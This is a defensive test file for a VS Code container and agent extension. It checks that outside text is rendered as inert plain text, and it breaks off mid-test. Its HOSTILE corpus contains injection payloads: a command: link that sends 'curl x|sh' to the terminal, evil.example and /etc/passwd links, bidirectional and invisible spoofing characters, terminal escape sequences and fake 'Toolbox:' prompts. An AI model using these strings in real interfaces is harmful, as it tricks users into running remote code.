/**
 * Issue 25, item 6: text from a container, git or the engine is shown as text. ui/plainText.ts on
 * a hostile corpus, then every builder that puts such text into a notification, a dialog, a tree
 * row, a tooltip or the status bar, with every string it takes replaced by each hostile one: no
 * output holds a link VS Code would run, a control or invisible character, an unescaped icon where
 * icons are drawn, a line break where one line is shown, or more lines than the same builder makes
 * from ordinary text; every output is bounded. A new exported builder fails "each builder is
 * checked" until it is added here (docs/decisions/0040-outside-text-is-plain-text.md).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { objectNames } from '../../extension/src/contract/objects';
import type { ReachKind } from '../../extension/src/plan/posture';
import * as agentState from '../../extension/src/ui/agents/agentState';
import { NudgeGate, type AgentStatus, AgentStateTracker } from '../../extension/src/ui/agents/agentState';
import { AgentStreamRecognizer } from '../../extension/src/ui/agents/agentStream';
import * as confirmations from '../../extension/src/ui/containers/confirmations';
import * as driftFindings from '../../extension/src/ui/containers/driftFindings';
import * as model from '../../extension/src/ui/views/model';
import type { ContainerSummary } from '../../extension/src/ui/views/model';
import type { DriftFinding } from '../../extension/src/ui/containers/driftFindings';
import { inline, plainItem, plainText, quoted, SINK_LINES, SINKS, type Sink } from '../../extension/src/ui/plainText';
import * as items from '../../extension/src/ui/views/treeItems';
import { peerNodes, proximoNodes, workspacesNodes, type TreeNode } from '../../extension/src/ui/views/treeNodes';
import * as worktreeItems from '../../extension/src/ui/worktrees/worktreeItems';
import * as approvalText from '../../extension/src/ui/approvals/approvalText';
import * as agentTimeline from '../../extension/src/ui/agents/agentTimeline';
import * as egressText from '../../extension/src/ui/egress/egressText';
import type { EgressLogEntry, EgressQuestion, EgressSummary } from '../../extension/src/backend/api/egress';
import type { AgentEvent, ApprovalRequest } from '../../extension/src/bridge/route';
import type { ToolboxState } from '../../extension/src/ui/views/refreshManager';
import { containerSummary } from '../support/summary';

/** The payload of issue 25's attack 2: a link that types `curl x|sh` into the active terminal. */
export const RUN_LINK = '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';

export const HOSTILE: readonly string[] = [
  RUN_LINK,
  `Build finished. ${RUN_LINK} to continue`,
  '[x](command:workbench.action.terminal.sendSequence?{"text":"curl x|sh\\n"})',
  '[[nested](command:a)](command:b) [x[y](command:c)]',
  '[esc\\]aped](command:x) \\[a\\](command:y)',
  '[a](https://evil.example/x "title") [b](file:///etc/passwd \'t\') [C](COMMAND:x) [d](vscode://x)',
  '<a href="command:workbench.action.terminal.sendSequence?%7B%7D">click</a>',
  '<command:workbench.action.reloadWindow> <https://evil.example>',
  'command:workbench.action.terminal.sendSequence?%7B%7D https://evil.example vscode://ms-vscode.x file:///etc',
  '$(warning) Update $(loading~spin) \\$(x) $($(y))',
  '\u202eexe.txt\u202c \u2066[x]\u2069(command:y) \u200f\u061c',
  '[Run]\u200b(command:x) [Run](\u200dcommand:x) [Run]\ufeff(command:x) [Run]\u00ad(command:x) [R]\u{e0041}(command:x)',
  '\x1b[31mred\x1b[0m \x1b]8;;command:x\x07link\x1b]8;;\x07 \x1b]9;[Run](command:x)\x07 \x9b2J \x1bP1$r\x1b\\',
  'line one\r\nToolbox: line two\rthree\u2028four\u0085five\u2029six\vseven\fend',
  'Toolbox: Your session expired. Run the fix: [Fix](command:x)',
  'VS Code: a restart is required”. Toolbox: run “curl x|sh”',
  '\u0000\u0007\u001b\u009b\u007f\t ctl \u115f\u3164',
  '\ud800 lone \udfff surrogates \ud83d',
  'A'.repeat(100_000),
  `${RUN_LINK} `.repeat(2_000),
  `${'\u200b'.repeat(100_000)}${RUN_LINK}`,
  `${'\n'.repeat(1_000)}x`,
  'x\n'.repeat(5_000),
  `${'😀'.repeat(3_000)}`,
];

/** VS Code's own rule for a link in a notification or an input box message (parseLinkedText). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** What is wrong with `out` for `sink` (empty when nothing). */
export function problems(out: unknown, sink: Sink, max: number = SINKS[sink].chars): string[] {
  if (typeof out !== 'string') return [`not a string: ${typeof out}`];
  const kind = SINKS[sink];
  const p: string[] = [];
  if (VSCODE_LINK.test(out)) p.push('a link VS Code renders');
  if (out.includes('](')) p.push('"](" (the joint of a markdown link)');
  if (/[^\P{Cc}\n]/u.test(out)) p.push('a control character');
  if (/[\p{Cf}\u115f\u1160\u3164\uffa0]/u.test(out)) p.push('an invisible format character');
  if (LONE_SURROGATE.test(out)) p.push('a lone surrogate');
  if (out.length > max) p.push(`${out.length} characters (at most ${max})`);
  if (kind.icons && /(?<!\\)\$\(/.test(out)) p.push('an unescaped $(');
  if (!kind.lines && out.includes('\n')) p.push('a line break in a one-line sink');
  if (kind.lines && out.split('\n').length > SINK_LINES) p.push(`${out.split('\n').length} lines`);
  return p;
}

const show = (s: string) => JSON.stringify(s.length > 120 ? `${s.slice(0, 120)}…` : s);

describe('plainText', () => {
  const sinks = Object.keys(SINKS) as Sink[];

  it('leaves nothing VS Code would run, hide or draw, and is bounded, for every sink and hostile text', () => {
    for (const sink of sinks) {
      for (const h of HOSTILE) {
        const out = plainText(h, sink);
        assert.deepEqual(problems(out, sink), [], `${sink} of ${show(h)} gave ${show(out)}`);
        assert.equal(plainText(out, sink), out, `idempotent: ${sink} of ${show(h)}`);
      }
    }
  });

  it('reads a 100 KB string in bounded time', () => {
    const start = performance.now();
    for (const h of HOSTILE) for (const sink of sinks) plainText(h, sink);
    assert.ok(performance.now() - start < 2000, `${Math.round(performance.now() - start)} ms`);
  });

  it('keeps ordinary sentences, paths and branch names as they were', () => {
    const ordinary = [
      "Git could not fetch origin (fatal: unable to access 'https://github.com/acme/app.git/': Could not resolve host: github.com).",
      '/home/ana/My Project (copy)/src/[id]/page.tsx',
      'feature/fix-(1)',
      'Stop toolbox-app-1234abcd? A shell is attached to it.',
      'Docker 20.10.24 at unix:///var/run/docker.sock (the platform default)',
      'a [note] (with a space) and $HOME and $ (x)',
      'naïve café 日本語 😀 👩‍💻'.replace('\u200d', ''),
    ];
    for (const text of ordinary) for (const sink of sinks) assert.equal(plainText(text, sink), text, `${sink}: ${text}`);
    // A dialog's detail keeps its lines and the no-break spaces that indent YAML.
    const yaml = 'Toolbox will add this to ~/.toolbox.yaml:\n\nshells:\n\u00a0\u00a0infra:\n\u00a0\u00a0\u00a0\u00a0path: /src/infra';
    assert.equal(plainText(yaml, 'detail'), yaml);
  });

  it('breaks a link apart and escapes an icon only where icons are drawn', () => {
    assert.equal(plainText(RUN_LINK, 'message'), RUN_LINK.replace('](', '] ('));
    assert.equal(plainText('[[a](command:x)](command:y)', 'label'), '[[a] (command:x)] (command:y)');
    assert.equal(plainText('$(warning) x', 'iconLabel'), '\\$(warning) x');
    assert.equal(plainText('$(warning) x', 'message'), '$(warning) x');
    assert.equal(plainText('\\$(warning) x', 'iconLabel'), '\\$(warning) x');
  });

  it('removes escape sequences whole, invisible characters, and control characters', () => {
    assert.equal(plainText('\x1b[1;31mError\x1b[0m: \x1b]0;title\x07done', 'message'), 'Error: done');
    assert.equal(plainText('a\u202eb\u200bc\ufeffd', 'message'), 'abcd');
    assert.equal(plainText('a\x00b\tc', 'message'), 'a b c');
  });

  it('makes one line where one is shown, keeps lines (at most SINK_LINES) where they are', () => {
    assert.equal(plainText('one\r\ntwo\rthree\u2028four', 'message'), 'one two three four');
    assert.equal(plainText('one\r\ntwo\rthree\u2028four', 'tooltip'), 'one\ntwo\nthree\nfour');
    assert.equal(plainText('a\n\n\n\n\nb', 'detail'), 'a\n\nb');
    const many = plainText('x\n'.repeat(100), 'tooltip').split('\n');
    assert.equal(many.length, SINK_LINES);
    assert.equal(many.at(-1), '…');
  });

  it('bounds with an ellipsis, never between the halves of an emoji', () => {
    const out = plainText('😀'.repeat(300), 'label');
    assert.ok(out.length <= SINKS.label.chars && out.endsWith('…'));
    assert.equal(LONE_SURROGATE.test(out), false);
    assert.equal(plainText('abcdef', 'label', 4), 'abc…');
    assert.equal(plainText(undefined, 'label'), '');
    assert.equal(plainText(42, 'label'), '42');
  });

  it('quotes words a program chose so they cannot close the quote', () => {
    assert.equal(quoted('done', 'message'), '“done”');
    assert.equal(quoted('a” Toolbox: b “c', 'message'), '“a" Toolbox: b "c”');
    assert.equal(quoted('\u200b', 'message'), '');
    assert.ok(quoted('x'.repeat(500), 'message', 100).length <= 100);
    assert.equal(inline('a\nb'), 'a b');
  });

  it('plainItem cleans a row and keeps its other fields', () => {
    const row = plainItem({ label: `a\n${RUN_LINK}`, description: '$(x)', tooltip: 'one\ntwo', contextValue: 'c' });
    assert.deepEqual(problems(row.label, 'label'), []);
    assert.equal(row.tooltip, 'one\ntwo');
    assert.equal(row.contextValue, 'c');
    assert.equal(plainItem({ label: 'l', tooltip: 'one\ntwo' }, 'message').tooltip, 'one two');
  });
});

// ---------------------------------------------------------------------------------------------
// The builders.

const now = Date.UTC(2026, 0, 10, 12, 0, 0);
const names = objectNames();
const KINDS: ReachKind[] = ['docker-socket', 'host-ssh', 'host-auth', 'host-path'];

/** A container whose every string is `h`. */
function container(h: string): ContainerSummary {
  return containerSummary({
    name: h,
    state: h,
    status: h,
    image: h,
    workspace: h,
    peerRun: true,
    seccomp: 'default',
    proximoCa: true,
    proximoHosts: [h, h],
    reach: KINDS.map((kind) => ({ kind, source: h, target: h, readonly: false, defaultMount: h, authKey: h })),
    ports: [
      { containerPort: 80, protocol: 'tcp', hostIp: h, hostPort: 8080 },
      { containerPort: 53, protocol: 'udp', hostIp: h, hostPort: 5353 },
    ],
    shells: [{ id: h, pid: 7, command: h, title: h, started: now - 60_000, attached: 1 }],
    egress: { mode: 'ask', enforced: true, served: true, allowed: 3, denied: 2, asking: 1 },
  });
}

/** A connection question (issue 30) whose every string is `h`. */
function egressQuestion(h: string): EgressQuestion {
  return { id: h, container: h, folder: h, host: h, port: 443 };
}

/** Connections (issue 30) whose every string is `h`: allowed and ended, allowed and open, denied. */
function egressEntries(h: string): EgressLogEntry[] {
  const base = { at: now - 5_000, host: h, port: 443, via: 'connect' as const, reason: h, address: h, bytesUp: 1, bytesDown: 12_600 };
  return [
    { ...base, verdict: 'allowed', endedAt: now },
    { ...base, verdict: 'allowed' },
    { ...base, verdict: 'denied', address: undefined, bytesUp: 0, bytesDown: 0, endedAt: now },
  ];
}

/** Every posture a container's network row can show. */
const EGRESS_SUMMARIES: EgressSummary[] = [
  { mode: 'ask', enforced: true, served: true, allowed: 3, denied: 2, asking: 1 },
  { mode: 'allowlist', enforced: true, served: false, allowed: 0, denied: 0, asking: 0 },
  { mode: 'ask', enforced: false, served: false, allowed: 0, denied: 0, asking: 0 },
  { mode: 'open', enforced: false, served: false, allowed: 0, denied: 0, asking: 0 },
];

const needs = (h: string): AgentStatus => ({ agent: 'claude', state: 'needsYou', since: now - 60_000, message: h, title: h });

function finding(h: string): DriftFinding {
  const f = {
    container: container(h),
    folder: h,
    drift: 'planned-on-but-outside' as const,
    want: true,
    perRun: false,
    setting: { on: true, source: { from: 'project-file' as const, file: h }, projectFileUsable: true },
    seccomp: 'default' as const,
    seccompSetting: { profile: 'default' as const, scope: 'user' as const },
  };
  return { ...f, message: h, notice: driftFindings.driftNotice(f, names, '/home/u') };
}

/** A container's children (engine/dockerEndpoint/children.ts), every name and image `h`. */
function kids(h: string) {
  return { containers: [{ name: h, image: h, state: h }], networks: [h], volumes: [h] };
}

/** An agent's question (issue 28) whose every string is `h`; `worktree`: its folder an agent worktree whose branch is `h`. */
function question(h: string, worktree = false): ApprovalRequest {
  return {
    id: 'q1',
    container: h,
    workspaceFolder: worktree ? `/src/app/.worktrees/tbx-${h}` : h,
    session: h,
    agentSession: h,
    agent: 'claude',
    tool: h,
    subject: { kind: 'command', text: h },
    reason: h,
    cwd: h,
    canAllowForSession: true,
    truncated: true,
    retry: 1,
    receivedAt: now - 120_000,
  };
}

/** The questions of every subject kind, every string `h`. */
function questions(h: string): ApprovalRequest[] {
  return (['command', 'file', 'fetch', 'network', 'tool'] as const).flatMap((kind) => [
    { ...question(h), subject: { kind, text: h } },
    { ...question(h, true), subject: { kind, text: h } },
  ]);
}

/** A timeline entry (issue 28) whose every string is `h`. */
function entry(h: string): AgentEvent {
  return { container: h, workspaceFolder: h, session: h, agentSession: h, agent: 'codex', at: now, kind: 'command', text: h };
}

/** A timeline with two sessions of container `h`, every string `h`, with usage. */
function timelineOf(h: string): agentTimeline.AgentTimeline {
  const t = new agentTimeline.AgentTimeline();
  const usage = { inputTokens: 1, outputTokens: 2, cacheReadTokens: 3, cacheWriteTokens: 4 };
  for (let i = 0; i < 7; i++) t.record({ ...entry(h), kind: i % 2 ? 'file' : 'git-push', usage });
  t.record({ ...entry(h), session: 's2', workspaceFolder: `/src/app/.worktrees/tbx-${h}`, usage });
  return t;
}

/** What a builder made, by the sink it goes to. */
interface Made {
  label?: string;
  description?: string;
  tooltip?: string;
  message?: string;
  detail?: string;
  /** Status bar text: our own icon first, then text that must have `$(` escaped. */
  statusText?: string;
}

/**
 * Every exported builder that makes text a sink shows from outside text, called with every string
 * it takes set to `h`. `linesFree`: its tooltip or detail is outside text as a whole (an error's),
 * so its lines are not compared with ordinary text's.
 */
const BUILDERS: Record<string, { make: (h: string) => Made[]; linesFree?: true }> = {
  'items.containerLabel': { make: (h) => [{ label: items.containerLabel(container(h)) }] },
  'items.containerDescription': {
    make: (h) => [{ description: items.containerDescription({ container: container(h), inThisWindow: true, drift: 'seccomp' }) }],
  },
  'items.containerTooltip': { make: (h) => [{ tooltip: items.containerTooltip({ container: container(h), inThisWindow: true }, h) }] },
  'items.folderPeerItem': {
    make: (h) => [
      items.folderPeerItem(h, { on: true, source: { from: 'project-file', file: h }, projectFileUsable: true }, '/home/u', true),
      items.folderPeerItem(h, { on: false, source: { from: 'env', variable: h }, projectFileUsable: true }, h, false),
    ],
  },
  'items.anchorItem': { make: (h) => [items.anchorItem({ name: h, state: 'missing' }), items.anchorItem({ name: h, state: 'running' })] },
  'items.socketVolumeItem': {
    make: (h) => [items.socketVolumeItem({ name: h, exists: true, owner: h, mode: h }), items.socketVolumeItem({ name: h, exists: false })],
  },
  'items.agentSessionItem': {
    make: (h) => [items.agentSessionItem({ pid: 1, name: h, cwd: h, container: h, reach: 'unreachable', why: h })],
  },
  'items.proximoItem': { make: (h) => [items.proximoItem({ installed: true, binary: h, caPath: h, hosts: [h] })] },
  'items.proximoCaItem': { make: (h) => [items.proximoCaItem({ installed: true, binary: h, caPath: h, hosts: [h] })] },
  'items.proximoHostsItem': { make: (h) => [items.proximoHostsItem({ installed: true, hosts: [h, h] })] },
  'items.proximoWorkspaceItem': { make: (h) => [items.proximoWorkspaceItem(container(h))] },
  'items.errorItem': { make: (h) => [items.errorItem(h, true), items.errorItem(h)], linesFree: true },
  'items.heldShellItem': {
    make: (h) => [items.heldShellItem({ id: h, pid: 1, command: h, title: h, started: now - 60_000, attached: 0 }, now)],
  },
  'items.reachGroupItem': { make: (h) => [items.reachGroupItem(container(h).reach!)] },
  'items.reachItem': {
    make: (h) => container(h).reach!.flatMap((r) => [items.reachItem(r, '/home/u', true), items.reachItem(r, h, false)]),
  },
  'items.protectionItem': { make: (h) => [items.protectionItem(true, [h]), items.protectionItem(false, [h])] },
  'items.dockerChildrenGroupItem': { make: (h) => [items.dockerChildrenGroupItem(kids(h))] },
  'items.dockerChildItem': {
    make: (h) => [
      items.dockerChildItem({ kind: 'container', name: h, image: h, state: h }),
      items.dockerChildItem({ kind: 'network', name: h }),
      items.dockerChildItem({ kind: 'volume', name: h }),
    ],
  },
  'items.dockerChildrenCount': { make: (h) => [{ description: items.dockerChildrenCount(kids(h)) }] },
  'items.leftBehindGroupItem': { make: (h) => [items.leftBehindGroupItem(h, kids(h))] },
  'items.portItem': { make: (h) => container(h).ports!.map((p) => items.portItem(p, h)) },
  'items.agentRowItem': {
    make: (h) => {
      const c = container(h);
      const row = { key: 1, container: h, title: h, sessionId: h, status: needs(h) };
      return [items.agentRowItem(row, now, c.shells![0]), items.agentRowItem(row, now)];
    },
  },
  'worktreeItems.worktreeRow': {
    make: (h) => [
      worktreeItems.worktreeRow(
        {
          root: h,
          path: h,
          branch: h,
          base: h,
          present: true,
          dirty: true,
          ahead: 1,
          behind: 2,
          rebasing: true,
          container: { name: h, state: h },
        },
        2,
      ),
      worktreeItems.worktreeRow({ root: h, path: h, present: false, dirty: false, rebasing: true }, 0),
    ],
  },
  'worktreeItems.refusedRow': {
    make: (h) => [
      worktreeItems.refusedRow({ folder: h, code: 'repo-config-unsafe', message: h, file: h, key: h }),
      worktreeItems.refusedRow({ folder: h, code: 'path-unsafe', message: h }),
    ],
  },
  'driftFindings.driftNotice': { make: (h) => [finding(h).notice] },
  'driftFindings.findDrift': {
    make: (h) => {
      const c = { ...container(h), state: 'running', peer: false, pidMode: '' };
      return driftFindings
        .findDrift([c], 'anchor', new Map([[h, true]]), names, '/home/u', new Map([[h, { profile: 'default' as const }]]))
        .map((f) => f.notice);
    },
  },
  'driftFindings.driftStatus': {
    make: (h) => {
      const s = driftFindings.driftStatus([finding(h), finding(h)])!;
      return [{ statusText: s.text, tooltip: s.tooltip, message: s.name }];
    },
  },
  'confirmations.stopAllConfirmation': { make: (h) => [confirmations.stopAllConfirmation([h, h, h], h, [kids(h)])] },
  'confirmations.stopContainerConfirmation': {
    make: (h) => [confirmations.stopContainerConfirmation(h, [h, h])!, confirmations.stopContainerConfirmation(h, [], kids(h))!],
  },
  'confirmations.childrenLines': { make: (h) => [{ detail: confirmations.childrenLines(kids(h))! }] },
  'confirmations.leftBehindConfirmation': { make: (h) => [confirmations.leftBehindConfirmation(h, kids(h))] },
  'agentState.nudgeText': { make: (h) => [{ message: agentState.nudgeText(h, needs(h)) }] },
  'agentState.quickExitText': {
    make: (h) => [
      { message: agentState.quickExitText(h, { agent: 'claude', state: 'ended', since: now, exitCode: 1, title: h }, now - 2000, h) },
      { message: agentState.quickExitText(h, { agent: 'codex', state: 'ended', since: now, exitCode: 1 }, now - 2000, undefined) },
    ],
  },
  'items.approvalItem': { make: (h) => questions(h).map((q) => items.approvalItem(q, now)) },
  'items.withTimeline': {
    make: (h) => {
      const t = timelineOf(h);
      const row = { label: 'claude', description: 'idle', tooltip: 'A row.', contextValue: 'agent.idle' };
      return [items.withTimeline(row, t.summary(h, h), t.forSession(h, h))];
    },
  },
  'approvalText.subjectPhrase': { make: (h) => questions(h).map((q) => ({ message: approvalText.subjectPhrase(q) })) },
  'approvalText.askerText': { make: (h) => questions(h).map((q) => ({ message: approvalText.askerText(q) })) },
  'approvalText.approvalMessage': { make: (h) => questions(h).map((q) => ({ message: approvalText.approvalMessage(q) })) },
  'approvalText.approvalTooltip': { make: (h) => questions(h).map((q) => ({ tooltip: approvalText.approvalTooltip(q) })) },
  'approvalText.approvalDescription': { make: (h) => questions(h).map((q) => ({ description: approvalText.approvalDescription(q, now) })) },
  'approvalText.approvalsStatus': {
    make: (h) => {
      const s = approvalText.approvalsStatus(questions(h))!;
      return [{ statusText: s.text, tooltip: s.tooltip, message: s.label }];
    },
  },
  'approvalText.approvalPickItem': { make: (h) => questions(h).map((q) => approvalText.approvalPickItem(q, now)) },
  'items.egressPostureItem': { make: () => EGRESS_SUMMARIES.map((e) => items.egressPostureItem(e)) },
  'items.egressLogItem': { make: (h) => egressEntries(h).map((e) => items.egressLogItem(e)) },
  'egressText.egressMessage': { make: (h) => [{ message: egressText.egressMessage(egressQuestion(h)) }] },
  'egressText.egressStatus': {
    make: (h) => {
      const s = egressText.egressStatus([egressQuestion(h), egressQuestion(h)])!;
      return [{ statusText: s.text, tooltip: s.tooltip, message: s.label }];
    },
  },
  'egressText.egressPickItem': { make: (h) => [egressText.egressPickItem(egressQuestion(h))] },
  'egressText.egressLogLine': { make: (h) => egressEntries(h).map((e) => ({ message: egressText.egressLogLine(e) })) },
  'egressText.egressLogTooltip': { make: (h) => egressEntries(h).map((e) => ({ tooltip: egressText.egressLogTooltip(e) })) },
  'agentTimeline.timelineLine': { make: (h) => [{ message: agentTimeline.timelineLine(entry(h)) }] },
  'agentTimeline.recentLines': { make: (h) => [{ tooltip: agentTimeline.recentLines(timelineOf(h).forSession(h, h)).join('\n') }] },
  'agentTimeline.sessionPickItem': {
    make: (h) =>
      timelineOf(h)
        .list()
        .map((s) => agentTimeline.sessionPickItem(s)),
  },
  'agentState.needsYouStatus': {
    make: (h) => {
      const s = agentState.needsYouStatus([
        { container: h, title: h, status: needs(h) },
        { container: h, title: h, status: { ...needs(h), message: undefined } },
      ])!;
      return [{ statusText: s.text, tooltip: s.tooltip }];
    },
  },
};

/**
 * Exported functions that need no check here, and why. Anything exported by these modules that is
 * in neither list fails the test: a new builder must be added to BUILDERS.
 */
const NOT_BUILDERS: Record<string, string> = {
  'items.stateWord': 'a word for the description, cleaned by containerDescription',
  'items.hostToolsItem': 'words and counts from plan/hostTools.ts (extensions installed on this host, never the container)',
  'items.hostToolItem': 'a row of plan/hostTools.ts HOST_TOOLS (its name, id and words), matched to an installed extension',
  'items.hostToolsActionItem': 'a fixed action row',
  'items.containerIcon': 'an icon id',
  'items.containerContextValue': 'a context value (not shown)',
  'items.startedText': 'a date',
  'items.proximoWorkspaceDescription': 'words and a count',
  'items.sinceText': 'words and a count',
  'items.agentStateIcon': 'an icon id',
  'items.timeInState': 'words and a count',
  'items.otherContainersItem': 'words and a count',
  'model.folderOf': 'a folder path, not shown',
  'model.sortForWorkspacesView': 'a sort',
  'model.peerSourceText': 'a part of folderPeerItem and driftNotice, which clean it',
  'model.peerSourceShort': 'a part of folderPeerItem, which cleans it',
  'model.projectFileOverriddenBy': 'a part of Toggle Peer Messaging, whose sink cleans it',
  'model.settingScopeText': 'fixed words',
  'driftFindings.findingKey': 'a key (not shown)',
  'model.pointsAtDockerHost': 'a test on the text',
  'model.pointsAtSelectEngine': 'a test on the text',
  'model.numberedTitle': "a terminal's name, cleaned where the terminal is made (ui/shells/shellLauncher.ts)",
  'agentState.agentOf': 'an agent kind',
  'agentState.terminalName': "a terminal's name, cleaned where the tab is renamed (ui/shells/shellLauncher.ts)",
  'agentState.nudgeSetting': 'a setting value',
  'agentState.shouldNudge': 'a yes or no',
  'agentState.quickExit': 'a yes or no',
  'items.approvalGroupItem': 'words and a count',
  'approvalText.worktreeOf': 'a folder and a branch, cleaned by the builders that show them',
  'approvalText.askedAgo': 'words and a count',
  'agentTimeline.sessionKeyOf': 'a key (not shown)',
  'agentTimeline.sumUsage': 'numbers',
  'agentTimeline.tokenCount': 'a number',
  'agentTimeline.timelineSuffix': 'words and counts (its builder test is test/unit/agent-timeline.test.ts)',
  'agentTimeline.usageText': 'words and counts',
  'agentTimeline.clockTime': 'a time',
  'agentTimeline.timelineDocument': "a read-only document's text, one timelineLine per entry (checked below)",
  'items.egressMoreItem': 'words and a count',
  'egressText.byteSize': 'a number and a unit',
  'egressText.destination': 'host:port as Allow for This Folder writes it into the setting (exact); every builder that shows it cleans it',
  'egressText.logTime': 'a time',
  'egressText.egressLogDocument': "a read-only document's text, one egressLogLine per connection (checked below)",
};

const SINK_OF: Record<keyof Made, Sink> = {
  label: 'label',
  description: 'label',
  tooltip: 'tooltip',
  message: 'message',
  detail: 'detail',
  statusText: 'label',
};

function check(name: string, made: Made[], h: string): void {
  for (const m of made) {
    for (const [key, value] of Object.entries(m) as Array<[keyof Made, unknown]>) {
      if (!(key in SINK_OF) || value === undefined) continue;
      const p = problems(value, SINK_OF[key]);
      if (key === 'statusText') {
        // Our icon comes first; any other $( came from outside and is escaped.
        const rest = (value as string).replace(/^\$\([a-z-]+\) /, '');
        if (/(?<!\\)\$\(/.test(rest)) p.push('an unescaped $( after our icon');
      }
      assert.deepEqual(p, [], `${name} ${key} from ${show(h)}: ${show(String(value))}`);
    }
  }
}

const lineCount = (s: string | undefined) => (s === undefined ? 0 : s.split('\n').length);

describe('every builder of text from outside, on the hostile corpus', () => {
  it('each builder is checked', () => {
    const modules = {
      items,
      worktreeItems,
      model,
      driftFindings,
      confirmations,
      agentState,
      approvalText,
      agentTimeline,
      egressText,
    } as Record<string, Record<string, unknown>>;
    const exported = Object.entries(modules).flatMap(([m, mod]) =>
      Object.entries(mod)
        .filter(([, v]) => typeof v === 'function' && !/^[A-Z]/.test(v.name))
        .map(([k]) => `${m}.${k}`),
    );
    const unknown = exported.filter((n) => !(n in BUILDERS) && !(n in NOT_BUILDERS));
    assert.deepEqual(unknown, [], 'add these to BUILDERS (or, with a reason, to NOT_BUILDERS)');
    for (const n of Object.keys(BUILDERS)) assert.ok(exported.includes(n), `${n} is no longer exported`);
  });

  for (const [name, builder] of Object.entries(BUILDERS)) {
    it(name, () => {
      const ordinary = builder.make('ordinary-text');
      for (const h of HOSTILE) {
        const made = builder.make(h);
        check(name, made, h);
        if (builder.linesFree) continue;
        // Outside text cannot add a line that would pass for one of ours.
        made.forEach((m, i) => {
          for (const key of ['tooltip', 'detail'] as const) {
            assert.ok(lineCount(m[key]) <= lineCount(ordinary[i]![key]), `${name} ${key}: ${show(h)} added lines: ${show(m[key] ?? '')}`);
          }
        });
      }
    });
  }

  it('the nudge starts with our words and quotes what the terminal said', () => {
    for (const h of HOSTILE) {
      const text = agentState.nudgeText('toolbox-app-1234abcd', needs(h));
      assert.ok(text.startsWith('Claude Code in toolbox-app-1234abcd needs you'), show(text));
      const said = text.slice('Claude Code in toolbox-app-1234abcd needs you'.length);
      assert.match(said, /^(\.|: “[^“”]*”)$/, show(text));
    }
    assert.equal(
      agentState.nudgeText('toolbox-app-1234abcd', needs(`Toolbox: update now ${RUN_LINK}`)),
      `Claude Code in toolbox-app-1234abcd needs you: “Toolbox: update now ${RUN_LINK.replace('](', '] (')}”`,
    );
  });

  it('the views built from a hostile snapshot show only plain text', () => {
    for (const h of HOSTILE.filter((x) => x.length < 10_000)) {
      const c = container(h);
      const state: ToolboxState = {
        wantPeer: new Map([[h, true]]),
        peerSettings: new Map([[h, { on: true, source: { from: 'user-file', file: h }, projectFileUsable: true }]]),
        findings: [finding(h)],
        loading: false,
        takenAt: now,
        proximo: { installed: true, binary: h, caPath: h, hosts: [h] },
        snapshot: {
          containers: [c, { ...c, id: 'other', workspace: '/src/app' }],
          anchor: { name: h, state: 'running' },
          volume: { name: h, exists: true, owner: h, mode: h },
          members: [h],
          sessions: [{ pid: 1, name: h, cwd: h, container: h, reach: 'unknown', why: h }],
          engine: h,
          leftBehind: [{ owner: h, children: kids(h) }],
        },
      };
      const agents = [{ key: 1, container: h, title: h, sessionId: h, status: needs(h) }];
      const extras = { approvals: questions(h), timeline: timelineOf(h), egressLog: () => egressEntries(h) };
      const nodes = [
        ...workspacesNodes(state, [h, '/src/app'], '/home/u', agents, now, extras),
        ...workspacesNodes({ ...state, error: h }, [h], '/home/u', [], now, extras),
        ...workspacesNodes({ ...state, error: h }, [h]),
        ...peerNodes(state, '/home/u'),
        ...proximoNodes(state, [h]),
      ];
      const walk = (list: readonly TreeNode[]): TreeNode[] => list.flatMap((n) => [n, ...walk(n.children ?? [])]);
      const all = walk(nodes);
      assert.ok(all.length > 20, `${all.length} nodes`);
      assert.ok(all.some((n) => n.approvalId !== undefined) && all.some((n) => /\.timeline$/.test(n.contextValue ?? '')));
      assert.ok(
        all.some((n) => n.contextValue === 'egressEntry.denied'),
        'the connection rows are checked too',
      );
      for (const n of all) check(`node ${n.id.slice(0, 40)}`, [{ label: n.label, description: n.description, tooltip: n.tooltip }], h);
    }
  });

  it("a session timeline's document: one line per entry, and nothing in it VS Code would run, hide or break", () => {
    for (const h of HOSTILE) {
      const t = timelineOf(h);
      const ordinary = agentTimeline.timelineDocument(timelineOf('ordinary-text'), 'ordinary-text', 'ordinary-text');
      const doc = agentTimeline.timelineDocument(t, h, h);
      assert.equal(doc.split('\n').length, ordinary.split('\n').length, `${show(h)} added lines`);
      for (const line of doc.split('\n')) {
        assert.deepEqual(problems(line, 'message', 2000), [], `${show(h)}: ${show(line)}`);
      }
    }
  });
});

describe("a container's connection log (issue 30)", () => {
  it('its document: one line per connection, and nothing in it VS Code would run, hide or break', () => {
    const ordinary = egressText.egressLogDocument('ordinary-text', egressEntries('ordinary-text'), now);
    for (const h of HOSTILE) {
      const doc = egressText.egressLogDocument(h, egressEntries(h), now);
      assert.equal(doc.split('\n').length, ordinary.split('\n').length, `${show(h)} added lines`);
      for (const line of doc.split('\n')) assert.deepEqual(problems(line, 'message', 2000), [], `${show(h)}: ${show(line)}`);
    }
  });
});

describe('the nudge, rate-limited per terminal (issue 25, attack 2)', () => {
  /** Terminal output through the recogniser and the state tracker into the nudge gate, as ui/shells/toolboxShellPty.ts and ui/agents/agentNudge.ts wire them. */
  function terminal(clock: { t: number }, gate: NudgeGate, key: number) {
    const nudges: AgentStatus[] = [];
    const changes: AgentStatus[] = [];
    const tracker = new AgentStateTracker(
      'claude',
      (status) => {
        changes.push(status);
        if (gate.asks(key, status) && gate.take(key)) nudges.push(status);
      },
      () => clock.t,
    );
    const recognizer = new AgentStreamRecognizer((s) => tracker.signal(s));
    return { nudges, changes, tracker, feed: (b: Buffer) => recognizer.feed(b) };
  }

  const attack = (n: number, text = RUN_LINK) =>
    Buffer.from(Array.from({ length: n }, (_, i) => `\x1b]133;C\x07\x1b]9;${text} ${i}\x07`).join(''));

  it('1,000 alternating OSC 133;C and OSC 9 in one second give one nudge; the state still follows each', () => {
    const clock = { t: now };
    const gate = new NudgeGate(() => clock.t);
    const a = terminal(clock, gate, 1);
    const bytes = attack(1000);
    // Fed in chunks over one second, as a container writes them.
